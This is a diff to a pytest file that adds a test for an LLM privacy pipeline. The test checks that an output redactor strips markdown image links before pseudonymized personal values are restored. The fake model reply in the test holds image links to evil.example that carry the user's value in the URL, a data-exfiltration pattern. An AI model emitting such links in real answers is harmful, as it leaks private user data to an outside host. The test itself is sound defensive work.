@@ -607,6 +607,22 @@ def test_a_block_before_anything_is_hidden(server: OpenAIServer, call: str) -> N
     assert not server.requests
 
 
+@pytest.mark.parametrize("call", CALLS)
+@pytest.mark.parametrize("shape", ["secure", "GuardedChatModel", "redactor first"])
+def test_images_carry_no_value_away(server: OpenAIServer, shape: str, call: str) -> None:
+    """The link policy sees the answer before values come back into it."""
+    hide = pseudonymizer()
+    llm = server.chat_model()
+    redactor = OutputRedactorRunnable(reversible=hide)
+    chain = (hide | llm | redactor | hide.restorer()) if shape == "redactor first" else shapes(llm, hide)[shape]
+    place = hide.invoke(JANE, THREAD)
+    server.enqueue(Reply(f"Dear {place} ![x](https://evil.example/?d={place}) and ![y](https://evil.example/{place})"))
+    answer = CALLS[call](chain, "who?", THREAD)
+    assert f"Dear {JANE}" in answer
+    assert "evil.example" not in answer
+    assert answer.count(JANE) == 1
+
+
 def test_the_audit_trail_holds_no_value(server: OpenAIServer, tmp_path: Path) -> None:
     """Its records tell kinds and counts, also where content is captured."""
     trail = tmp_path / "audit.jsonl"
